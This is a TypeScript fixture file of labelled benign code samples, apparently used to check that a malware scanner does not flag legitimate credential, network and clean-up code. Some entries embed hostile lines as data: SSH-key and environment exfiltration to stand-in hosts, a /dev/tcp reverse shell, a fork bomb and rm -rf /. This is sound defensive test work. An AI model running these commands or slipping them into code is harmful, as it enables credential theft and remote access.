/** Code that only looks like it. */
export const HONEST: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  [
    'a README about keys',
    { 'README.md': 'Run `cat ~/.ssh/id_rsa | curl -d @- https://x.invalid` never. `rm -rf /` neither.' },
  ],
  [
    'an SSH client that finds its keys',
    {
      'ssh/client.py': `
import os, socket
from .keys import load_private_key
DEFAULT_KEYS = ["~/.ssh/id_rsa", "~/.ssh/id_ed25519"]

class Client:
    def connect(self, host, port=22, key_filename=None):
        sock = socket.create_connection((host, port))
        for path in DEFAULT_KEYS:
            full = os.path.expanduser(path)
            if os.path.isfile(full):
                key = load_private_key(full)
                self.auth(sock, key)
        return sock
`,
    },
  ],
  [
    'a token from the environment',
    {
      'tests/test_api.py': `
import os
import requests

def test_status():
    env = os.environ.copy()
    token = os.environ["API_TOKEN"]
    answer = requests.post("https://api.example.com/v1", headers={"Authorization": token}, json={"ci": env.get("CI")})
    assert answer.ok
`,
    },
  ],
  [
    'the environment handed to a child, beside a request',
    {
      'lib/run.js': `
const { spawn } = require('child_process');
async function run() {
  const env = { ...process.env, NODE_ENV: 'test' };
  spawn('node', ['app.js'], { env });
  const answer = await fetch('https://api.example.com/health', { headers: { authorization: process.env.TOKEN } });
  return answer.json();
}
`,
    },
  ],
  [
    'a .env file that is read and used',
    {
      'config.py': `
import os, requests
from dotenv import dotenv_values
settings = {**dotenv_values(".env"), "HOME": os.environ["HOME"]}
def ping():
    return requests.get("https://service.example.com/ping", params={"key": settings["KEY"]})
`,
    },
  ],
  [
    'a scanner’s own lists',
    {
      'scanner/rules.py': `
SUSPICIOUS = [
    "stratum+tcp://pool.example.com:3333",
    "rm -rf /",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "cat ~/.ssh/id_rsa | curl -d @- https://evil.example",
    ":(){ :|:& };:",
]
def scan(text):
    return [each for each in SUSPICIOUS if each in text]
`,
    },
  ],
  [
    'comments and docstrings',
    {
      'src/tool.py': `
"""Never do this:

    requests.post("https://x.invalid", data=open("~/.ssh/id_rsa").read())
"""
# rm -rf / would be bad; so would curl -d "$(cat ~/.ssh/id_rsa)" https://x.invalid
def tool():
    return 1
`,
      'src/tool.js': `
/* fetch("https://x.invalid", { body: readFileSync("/root/.ssh/id_rsa") }) */
// rmSync(homedir(), { recursive: true })
export const tool = () => 1;
`,
    },
  ],
  [
    'clean-up of its own folders',
    {
      Makefile: 'clean:\n\trm -rf build dist /tmp/demo "$(HOME)/.cache/demo" $(HOME)/.demo/*\n',
      'scripts/clean.sh':
        '#!/bin/sh\nrm -rf "$HOME/.cache/demo" /var/lib/apt/lists/* ./out\nfind . -name "*.pyc" -delete\n',
      'tests/test_clean.py':
        'import shutil\nfrom pathlib import Path\n\ndef test_clean(tmp_path):\n    home = tmp_path\n    shutil.rmtree(home)\n    shutil.rmtree(Path.home() / ".cache" / "demo")\n',
      'clean.js': "rmSync(join(homedir(), '.demo'), { recursive: true });\nfs.rmSync(dir, { recursive: true });\n",
    },
  ],
  [
    'a deployment with a key of its own',
    {
      'deploy.sh':
        '#!/bin/sh\nscp -i ~/.ssh/id_rsa app.tar host.example.com:/srv\nrsync -e "ssh -i ~/.ssh/deploy" out/ host.example.com:/srv\nssh -i ~/.ssh/id_rsa host.example.com restart\n',
    },
  ],
  [
    'a client that reads .netrc',
    {
      'http/auth.py': `
import os
from netrc import netrc
from urllib.request import Request, urlopen

def credentials(host):
    path = os.path.expanduser("~/.netrc")
    if not os.path.exists(path):
        return None
    return netrc(path).authenticators(host)

def get(url, host):
    login = credentials(host)
    request = Request(url)
    if login:
        request.add_header("Authorization", encode(login))
    return urlopen(request)
`,
    },
  ],
  [
    'a registry client that reads its token',
    {
      'src/registry.ts': `
import { readFileSync } from 'node:fs';
export function tokenFor(registry: string): string | undefined {
  const npmrc = readFileSync(join(homedir(), '.npmrc'), 'utf8');
  return parse(npmrc)[registry];
}
export async function publish(registry: string, tarball: Buffer) {
  const token = tokenFor(registry);
  return fetch(registry, { method: 'PUT', body: tarball, headers: { authorization: token } });
}
`,
    },
  ],
  [
    'a public key that is uploaded',
    {
      'add_key.py':
        'import requests, pathlib\nkey = pathlib.Path("~/.ssh/id_ed25519.pub").expanduser().read_text()\nrequests.post("https://forge.example/keys", json={"key": key})\n',
    },
  ],
  [
    'a service’s own cluster token',
    {
      'probe.sh':
        '#!/bin/sh\nTOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -s -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api\n',
    },
  ],
  [
    'downloads in scripts',
    {
      'install.sh':
        '#!/bin/sh\ncurl -fsSL https://tool.example/install | sh -s -- --yes\nwget -O- https://x.example/a.tar.gz | tar xz\n',
      'package.json':
        '{\n "scripts": { "test": "node --test", "env": "env | sort", "clean": "rm -rf dist ~/.cache/x" }\n}',
    },
  ],
  [
    'continuous integration and data',
    {
      '.github/workflows/ci.yml': 'steps:\n  - run: env | curl -d @- https://x.invalid\n',
      'fixtures/sample.json': '{"command": "cat ~/.ssh/id_rsa | nc x 1"}',
    },
  ],
  [
    'a terminal server',
    {
      'terminal.js': `
const pty = require('node-pty');
const shell = pty.spawn('/bin/bash', []);
server.on('connection', (socket) => {
  shell.onData((data) => socket.send(data));
  socket.on('message', (data) => shell.write(data));
});
`,
    },
  ],
  [
    'a test server and a child process',
    {
      'tests/test_server.py': `
import socket, subprocess, sys, os
def test_server():
    child = subprocess.Popen([sys.executable, "-m", "demo"], env=dict(os.environ, PORT="0"), stdout=subprocess.PIPE)
    s = socket.create_connection(("127.0.0.1", 8000))
    s.sendall(b"hello")
    assert s.recv(5)
`,
    },
  ],
  [
    'a configuration of many variables',
    {
      'config.go': `
package config
func Load() map[string]string {
	values := map[string]string{}
	for _, pair := range os.Environ() {
		if strings.HasPrefix(pair, "APP_") { values[pair] = pair }
	}
	return values
}
func Check(url string) error {
	_, err := http.Get(url)
	return err
}
`,
    },
  ],
  [
    'a Java client with settings',
    {
      'src/main/java/Client.java': `
class Client {
  private final Map<String, String> env = System.getenv();
  HttpResponse<String> get() throws Exception {
    HttpRequest request = HttpRequest.newBuilder(URI.create("https://api.example.com/" + env.get("REGION"))).build();
    return client.send(request, BodyHandlers.ofString());
  }
}
`,
    },
  ],
  [
    'a Rust crate that lists known hosts',
    {
      'src/lib.rs':
        'use std::fs;\npub fn hosts<\'a>(home: &\'a str) -> String {\n    fs::read_to_string(format!("{home}/.ssh/known_hosts")).unwrap_or_default()\n}\npub async fn get(url: &str) -> String {\n    reqwest::get(url).await.unwrap().text().await.unwrap()\n}\n',
    },
  ],
  [
    'attacks written down as fixtures of a test',
    {
      'tests/heal.test.ts':
        'test(\'quarantines\', async () => {\n  const thief = `import urllib.request, pathlib\n\ndef test_a():\n    key = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()\n    urllib.request.urlopen("http://collector.invalid", data=key)\n`;\n  await heal({ \'test_a.py\': thief });\n});\n',
      'tests/test_scan.py':
        'THIEF = """\nimport os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n"""\n\ndef test_scan(tmp_path):\n    (tmp_path / "a.py").write_text(THIEF)\n',
    },
  ],
];
